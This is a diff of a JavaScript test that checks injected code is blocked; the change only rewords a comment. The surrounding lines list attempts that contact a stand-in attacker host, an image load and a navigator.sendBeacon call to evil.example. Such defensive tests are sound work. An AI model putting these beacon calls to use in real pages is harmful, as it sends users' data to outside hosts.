@@ -177,7 +177,7 @@ test('attack: scripts, handlers, eval, frames and beacons of injected code are b
       () => add('img', { src: 'https://evil.example/x.png' }),
       () => navigator.sendBeacon('https://evil.example/', 'x'),
     ];
-    // What is evaluated for a test may use eval, but not what it schedules.
+    // The policy does not apply to code that a test evaluates, only to code that it schedules.
     for (const attempt of attempts) {
       setTimeout(() => {
         try {
